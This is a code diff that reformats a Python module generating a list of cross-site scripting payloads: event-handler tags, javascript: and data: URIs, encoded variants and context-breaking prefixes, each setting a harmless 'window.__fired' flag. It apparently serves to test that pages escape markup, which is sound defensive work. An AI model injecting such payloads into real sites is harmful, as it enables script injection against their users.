@@ -1,7 +1,16 @@
 """More than two hundred texts that would be a script if any page took them for markup."""
 
 TAG = "window.__fired=1"
-_HANDLERS = ("onerror", "onload", "onclick", "onfocus", "ontoggle", "onanimationstart", "onpointerover", "onbegin")
+_HANDLERS = (
+    "onerror",
+    "onload",
+    "onclick",
+    "onfocus",
+    "ontoggle",
+    "onanimationstart",
+    "onpointerover",
+    "onbegin",
+)
 _ELEMENTS = (
     "<img src=x {h}={t}>", "<svg {h}={t}>", "<body {h}={t}>", "<details open {h}={t}>", "<video src=x {h}={t}>",
     "<input autofocus {h}={t}>", "<iframe {h}={t}>", "<svg><animate {h}={t} attributeName=x dur=1s>",
@@ -21,7 +30,19 @@ _SCRIPTS = (
     "javascript:{t}", "data:text/html,<script>{t}</script>", "vbscript:{t}", "jav&#x09;ascript:{t}",
     "&lt;script&gt;{t}&lt;/script&gt;", "\\u003cscript\\u003e{t}\\u003c/script\\u003e", "%3Cscript%3E{t}%3C/script%3E", "＜script＞{t}＜/script＞",
 )  # fmt: skip
-_BREAKS = ('"><', "'><", "</textarea><", "</title><", "</script><", "--><", "]]><", "</style><", '"/><', "`><", "</option></select><")
+_BREAKS = (
+    '"><',
+    "'><",
+    "</textarea><",
+    "</title><",
+    "</script><",
+    "--><",
+    "]]><",
+    "</style><",
+    '"/><',
+    "`><",
+    "</option></select><",
+)
 _SHORTEST = ("<img src=x onerror={t}>", "<svg onload={t}>", "<script>{t}</script>")
 
 
@@ -30,6 +51,12 @@ def payloads(n: int | None = None) -> list[str]:
     elements = [text.format(h=handler, t=TAG) for handler in _HANDLERS for text in _ELEMENTS]
     scripts = [text.format(t=TAG) for text in _SCRIPTS]
     broken = [lead[:-1] + text.format(t=TAG) for lead in _BREAKS for text in _SHORTEST]
-    attributes = [f'" {handler}={TAG} x="' for handler in _HANDLERS] + [f"' {handler}={TAG} x='" for handler in _HANDLERS]
-    found = list(dict.fromkeys([*(text.format(t=TAG) for text in _SHORTEST), *scripts, *attributes, *broken, *elements]))
+    attributes = [f'" {handler}={TAG} x="' for handler in _HANDLERS] + [
+        f"' {handler}={TAG} x='" for handler in _HANDLERS
+    ]
+    found = list(
+        dict.fromkeys(
+            [*(text.format(t=TAG) for text in _SHORTEST), *scripts, *attributes, *broken, *elements]
+        )
+    )
     return found[:n]
